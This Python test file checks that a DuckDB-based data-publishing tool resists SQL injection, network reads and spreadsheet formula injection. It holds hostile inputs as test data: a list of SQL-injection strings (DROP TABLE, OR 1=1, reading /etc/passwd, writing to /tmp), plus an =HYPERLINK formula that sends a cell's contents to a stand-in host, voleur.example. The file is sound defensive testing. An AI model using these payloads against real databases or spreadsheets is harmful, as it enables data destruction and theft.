"""SQL that somebody else would finish: names, cells, labels and files that hold quotes, and queries that write."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from aqueduc import duck
from aqueduc.declaration import load_city, load_dataset
from aqueduc.errors import AqueducError, DeclarationError
from aqueduc.sql import identifier, literal
from tests.adversary.town import Town, found_town
from tests.examples import share

BREAKS = (
    '"; DROP TABLE x; --',
    "'; DROP TABLE x; --",
    "'' OR 1=1 --",
    "\" FROM read_csv('/etc/passwd') --",
    "') TO '/tmp/pris' --",
    "/* */ $$ $1 ? :x {x} %s %(x)s",
    "\\'; --",
    "a\0b",
    "a\nb",
    "`x`]]",
    "é\u2019\uff07",
)
CALM = settings(
    max_examples=share(50), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


@CALM
@given(st.text(st.characters(exclude_categories=("Cs",)), max_size=30))
@example(BREAKS[0])
@example(BREAKS[1])
@example(BREAKS[7])
def test_a_literal_is_the_text_and_nothing_else(text: str) -> None:
    with duckdb.connect() as con:
        assert con.execute(f"SELECT {literal(text)}, 1").fetchall() == [(text, 1)]


@CALM
@given(st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\0"), min_size=1, max_size=30))
@example(BREAKS[0])
def test_a_name_is_the_name_and_nothing_else(name: str) -> None:
    with duckdb.connect() as con:
        found = con.execute(f"SELECT 1 AS {identifier(name)}, 2 AS autre_{len(name)}")
        assert found.description[0][0] == name and found.fetchall() == [(1, 2)]


def test_an_engine_fetches_no_extension_and_reads_no_address(tmp_path: Path) -> None:
    """What a query of ours would be made to ask of a network stays unasked."""
    for query in (
        "SELECT * FROM read_csv('http://127.0.0.1:9/x.csv')",
        "SELECT * FROM read_parquet('s3://x/y.parquet')",
        "LOAD httpfs",
    ):
        with pytest.raises(AqueducError), duck.open_duckdb(tmp_path) as con:
            con.execute(query)


@pytest.fixture
def town(tmp_path: Path) -> Town:
    return found_town(tmp_path)


def test_cells_and_labels_that_hold_sql_are_published_as_cells(town: Town) -> None:
    """Through every query of a run: reading, rules, k-anonymity, keys, guards, slices, formats, reading back."""
    rows = [
        {"id": f"{rank}{text}", "groupe": text, "ville": text, "n": rank}
        for text in (text.replace("\0", "") for text in BREAKS)
        for rank in range(6)
    ]
    fields = [{"name": "id"}, {"name": "groupe"}, {"name": "ville"}, {"name": "n", "type": "integer"}]
    town.declare(
        columns=dict.fromkeys(("id", "groupe", "ville", "n"), "publish"),
        fields=fields,
        key=["id"],
        privacy={"quasi_identifiers": ["groupe", "ville"], "k": 5},
        publish={"mode": "upload", "formats": ["csv", "parquet", "xlsx"]},
    )
    town.file(rows)
    town.run()
    town.run()
    published = sorted(town.published(), key=lambda row: row["id"])
    assert [row["groupe"] for row in published] == [
        str(row["groupe"]) for row in sorted(rows, key=lambda row: str(row["id"]))
    ]
    assert not Path("/tmp/pris").exists()


@pytest.mark.parametrize("name", [text for text in BREAKS if text.isprintable()])
def test_a_column_whose_name_holds_sql_is_a_column(town: Town, name: str) -> None:
    town.declare(
        columns={name: {"as": "valeur", "publish": True}, "groupe": "publish"},
        fields=[{"name": "valeur"}, {"name": "groupe"}],
        key=["valeur"],
    )
    town.file([{name: "a", "groupe": "x"}, {name: "b", "groupe": "x"}])
    town.run()
    assert [row["valeur"] for row in town.published()] == ["a", "b"]


@pytest.mark.parametrize(
    "query",
    [
        "DELETE FROM t",
        "SELECT 1 AS nom; DROP TABLE t",
        "SELECT 1 AS nom; SELECT 2",
        "SELECT nom FROM t WHERE jour > :inconnu",
        "SELECT nom FROM t WHERE jour > '{window_start}' AND nom = :nom",
    ],
)
def test_a_query_file_of_two_sentences_or_of_unknown_parameters_is_refused_or_sent_read_only(
    town: Town, query: str
) -> None:
    """What passes here meets a session that only reads: ``test_nothing_is_ever_written`` of each database."""
    (town.desk.include / "sql" / "jeu.sql").write_text(query)
    town.desk.schema("jeu", [{"name": "nom"}])
    path = town.desk.write(
        "jeu",
        {
            "title": "Jeu", "description": "Un jeu.", "owner": "Direction", "theme": "GOVE", "cadence": "daily",
            "source": {"postgres": "base", "sql": "sql/jeu.sql"}, "columns": {"nom": "publish"},
            "schema": "schemas/jeu.json", "publish": {"mode": "upload"},
        },
    )  # fmt: skip
    if query == "DELETE FROM t":
        assert load_dataset(path, load_city(town.desk.include)).id == "jeu"
        return
    with pytest.raises(DeclarationError, match=r"sql/jeu\.sql"):
        load_dataset(path, load_city(town.desk.include))


def test_rejected_rows_that_a_person_exports_are_no_formulas(
    town: Town, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing has sorted them: they are what somebody wrote in a form, and are made to be opened in a spreadsheet."""
    from typer.testing import CliRunner

    from aqueduc.cli.app import app

    town.declare(
        columns=dict.fromkeys(("nom", "n"), "publish"),
        fields=[{"name": "nom"}, {"name": "n", "type": "integer"}],
        reject_at_most=0.9,
    )
    cell = '=HYPERLINK("http://voleur.example/?"&A2;"voir")'
    town.file([{"nom": cell, "n": "pas un nombre"}, {"nom": "-12", "n": "x"}, {"nom": "Stade", "n": 1}])
    town.run()
    for variable, value in (
        ("AQUEDUC_INCLUDE", str(town.desk.include)),
        ("AQUEDUC_STORE", town.desk.place.store.url),
        ("AQUEDUC_VAULT", town.desk.place.vault.url),
    ):
        monkeypatch.setenv(variable, value)
    done = CliRunner().invoke(app, ["rejected", "jeu", "--export"])
    assert done.exit_code == 0, done.output
    (path,) = (town.desk.include.parent / "vault").rglob("*.csv")
    rows = list(csv.DictReader(io.StringIO(path.read_text("utf-8"))))
    assert [row["nom"] for row in rows] == [f"'{cell}", "-12"]
